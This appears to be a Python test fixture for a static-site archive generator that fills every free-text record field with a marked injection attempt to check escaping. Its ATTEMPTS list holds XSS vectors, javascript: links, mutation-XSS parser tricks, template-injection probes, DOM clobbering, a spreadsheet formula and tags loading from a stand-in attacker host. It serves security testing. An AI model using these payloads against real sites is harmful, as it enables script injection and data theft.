"""An archive by strangers: every text of every kind of record is an attempt to break in.

The records are made from the models, so a new field is attempted by itself: every value that is free text gets an
attempt, with marks around it by which it is found again in the site. What is not free text (dates, references) gets
the simplest value that fits.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import NoneType, UnionType
from typing import Annotated, Any, Literal, Union, get_args, get_origin, get_type_hints

from pydantic import BaseModel

from generator.records import model
from generator.records.dates import Date
from generator.records.model import MODELS, Kind

RUN = "window.ran=1"
ATTEMPTS = (
    # elements that run
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    # elements that bring others
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<object data=//evil.invalid/x></object><embed src=//evil.invalid/x>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import url(//evil.invalid/x.css);*{display:none}</style>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    # out of an attribute
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"` onmouseover={RUN} x=`",
    # addresses
    f"[x](javascript:{RUN})",
    f"[x](java&#x09;script:{RUN})",
    f"[x](&#106;avascript&colon;{RUN})",
    f"[x](vbscript:{RUN}) <javascript:{RUN}>",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f'[x](https://weir.example/ "a" onmouseover="{RUN}")',
    "![x](https://evil.invalid/p.gif)",
    # templates
    "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.ran=1')()}}",
    "{{ config.__class__.__init__.__globals__ }}",
    # parsers that disagree
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    # names that scripts look up
    "<a id=search-words>[]</a><a name=archiveDisk id=location href=//evil.invalid>x</a>",
    "=HYPERLINK('https://evil.invalid'&A1) @SUM(1+1) +1-1",
)
"""What is tried; none holds a line break, since a field is one line in many formats."""

MARKED = re.compile(r"Qx(\d+)x(.*?)xQ", re.DOTALL)
"""An attempt in the site, with its number and what is shown of it."""

KINDS = {
    "person": Kind.PERSON, "by": Kind.PERSON, "merged_into": None, "district": Kind.DISTRICT, "parent": None,
    "districts": Kind.DISTRICT, "organization": Kind.ORGANIZATION, "organizations": Kind.ORGANIZATION,
    "issues": Kind.ISSUE, "series": Kind.SERIES, "addressees": Kind.DISTRICT, "successors": None, "broader": None,
    "related": None,
}  # fmt: skip
"""Fields that name a record; those with None are left empty, since no record may name itself."""
FIXED: Mapping[str, object] = {
    "id": None, "source": "s1", "heading": "Weir", "agenda": "Weir", "speech": None, "repeats": None,
    "continues": None, "kind": None, "conclusion": None, "date": "2024-05-01", "seen": "2024-05-01",
    "from": "2001-01-01", "until": None, "due": "2024-06-01", "start": "14:00", "end": "15:00", "period": "2024",
    "language": "en", "status": None,
}  # fmt: skip
"""Values that are no free text although they are text to Python; None leaves a field out."""

UNSEEN = frozenset({"people.short"})
"""Texts that serve as labels in a record and are never shown by themselves."""
_READ = frozenset({"text", "note", "notes", "summary", "description", "title", "terms"})
"""Fields in which Markdown is read, or a `*` for any ending: of an attempt not every letter is shown."""


class Strangers:
    """All attempts of one archive, by number."""

    def __init__(self) -> None:
        self.tried: dict[int, tuple[str, str]] = {}
        """Field and attempt of each number."""

    def text(self, field: str, attempt: str) -> str:
        """Return an attempt with its marks, as the value of a field."""
        number = len(self.tried)
        self.tried[number] = (field, attempt)
        return f"Qx{number}x{attempt}xQ"

    def value(self, field: str, kind: object, attempt: str, number: int) -> object:  # noqa: PLR0911 - one return a type
        """Return what a field of this type gets; None where it is left out."""
        name = field.rpartition(".")[2]
        if name in KINDS:
            known, who = KINDS[name], number
            if field.endswith("absent.person"):  # nobody is both there and absent
                who = (number + 1) % len(ATTEMPTS)
            found = (f"{known}/r{who}" if name in {"by", "addressees"} else f"r{who}") if known else None
            return [found] if found and get_origin(kind) is tuple else found
        kind = _bare(kind)
        if get_origin(kind) is tuple:
            one = self.value(field, get_args(kind)[0], attempt, number)
            return [one]
        if isinstance(kind, type) and issubclass(kind, BaseModel):
            return self.fields(kind, attempt, number, f"{field}.")
        if name in FIXED:
            return FIXED[name]
        if get_origin(kind) is Literal:
            return get_args(kind)[0]
        if kind is Date:
            return "2024-05-01"
        if kind in (int, float):
            return 1
        assert kind is str, f"{field}: say in strangers.py what a {kind} is given"
        return self._string(field, name, attempt)

    def _string(self, field: str, name: str, attempt: str) -> str:
        if name in {"url", "same_as"}:
            return "https://weir.example/?" + re.sub(r"\s", "", self.text(field, attempt))
        if field == f"{Kind.ISSUE}.name":  # no < or > is let into an issue's name
            return self.text(field, re.sub("[<>]", "", attempt))
        return self.text(field, attempt)

    def fields(self, of: type[BaseModel], attempt: str, number: int, within: str) -> dict[str, Any]:
        """Return all fields of a model, each with what it gets."""
        hints = get_type_hints(of, include_extras=True)
        found: dict[str, Any] = {}
        for name, info in of.model_fields.items():
            written = info.alias or name
            if written == "id":
                found[written] = "s1" if of is model.Source else "k1"
            elif issubclass(of, model.Entry) and written == "group":  # an entry names a person or a group
                continue
            elif (value := self.value(within + written, hints[name], attempt, number)) is not None:
                found[written] = value
        return found

    def shown_as_written(self, number: int) -> bool:
        """Whether every letter of an attempt must be seen: not where Markdown is read, nor before the first report."""
        field, attempt = self.tried[number]
        return field.rpartition(".")[2] not in _READ and field not in UNSEEN and attempt in ATTEMPTS


def _bare(kind: object) -> object:
    """A type without its notes and without None."""
    while get_origin(kind) is Annotated:
        kind = get_args(kind)[0]
    if get_origin(kind) in (Union, UnionType):
        return _bare(next(one for one in get_args(kind) if one is not NoneType))
    return kind


BODY = """\
{0}

- {1}

> {2}

| A | B |
| - | - |
| {3} | x |

*({4})*

## Weir

**r{n}:** {5}

### {6}

`{7}`

    {8}

[[people/r{n}|{9}]] x[^1]

[^1]: {10}
"""


def records() -> tuple[dict[str, str], Strangers]:
    """Return the files of the archive by their path below `records/`, and what was tried in them."""
    strangers = Strangers()
    return dict(_files(strangers)), strangers


def _files(strangers: Strangers) -> Iterator[tuple[str, str]]:
    for number, attempt in enumerate(ATTEMPTS):
        for kind, of in MODELS.items():
            values = strangers.fields(of, attempt, number, f"{kind}.")
            if of is not model.Meeting:
                yield f"{kind}/r{number}.yml", _yaml(values)
                continue
            reported = values.pop("follow_ups")[0] | {"conclusion": f"m{number - 1}#k1", "status": "in_progress"}
            reported |= {"district": f"r{number - 1}", "organization": None}
            values["follow_ups"] = [{name: said for name, said in reported.items() if said}] if number else []
            said = [strangers.text(f"meetings.body.{place}.text", attempt) for place in range(11)]
            yield f"{kind}/2024/m{number}.md", f"---\n{_yaml(values)}---\n{BODY.format(*said, n=number)}"


def _yaml(values: Mapping[str, object]) -> str:
    return "".join(f"{name}: {json.dumps(value, ensure_ascii=False)}\n" for name, value in values.items())


def write_strangers(folder: Path) -> Strangers:
    """Write the archive and its configuration into a folder."""
    files, strangers = records()
    for name, text in files.items():
        path = folder / "records" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    title = json.dumps(strangers.text("config.title", ATTEMPTS[1]))
    told = json.dumps(strangers.text("config.description", ATTEMPTS[20]))
    config = f"title: {title}\ndescription: {told}\nlanguage: en\nlanguages: [vi]\noffline: true\n"
    config += "site_url: https://weir.example/\n"
    (folder / "site_config.yml").write_text(config, encoding="utf-8")
    return strangers
